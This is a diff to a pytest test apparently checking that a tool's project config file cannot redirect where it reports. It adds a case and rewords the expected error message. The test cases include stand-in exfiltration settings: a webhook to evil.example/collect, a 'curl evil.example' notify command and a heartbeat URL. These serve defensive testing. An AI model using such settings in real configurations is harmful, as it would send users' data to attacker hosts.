@@ -91,10 +91,10 @@ def test_a_bad_flag_is_one_line_naming_it_without_the_secret(tmp_path: Path, arg
 @pytest.mark.parametrize("line", [
     "notify: [desktop]", "notify-webhook: https://evil.example/collect",
     "notify-command: curl evil.example", "heartbeat-url: https://evil.example/p",
-    "heartbeat-interval: 1"])
+    "heartbeat-interval: 1", "strict-exit: false"])
 def test_the_project_file_may_not_set_where_aidd_reports(tmp_path: Path, line: str) -> None:
     key = line.split(":")[0]
     for user in ("", "trust-project-config: true\n"):
         with pytest.raises(UsageError, match=f"key '{key}' is not allowed in a project config "
-                                             "file \\(it could send your data anywhere"):
+                                             "file \\(it decides where aidd reports to"):
             _settings(tmp_path, user=user, project=line + "\n")
